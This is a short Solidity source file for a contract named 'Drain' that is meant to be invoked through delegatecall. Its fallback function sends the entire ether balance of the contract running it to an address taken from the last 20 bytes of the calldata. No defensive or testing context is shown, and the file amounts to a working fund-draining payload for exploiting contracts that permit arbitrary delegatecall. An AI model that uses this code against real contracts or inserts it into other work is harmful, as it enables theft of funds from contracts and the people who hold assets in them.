// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @title Code for a delegatecall: sends the ether of whoever runs it to the last 20 bytes of the calldata
contract Drain {
    fallback() external payable {
        Address.sendValue(payable(address(bytes20(msg.data[msg.data.length - 20:]))), address(this).balance);
    }
}
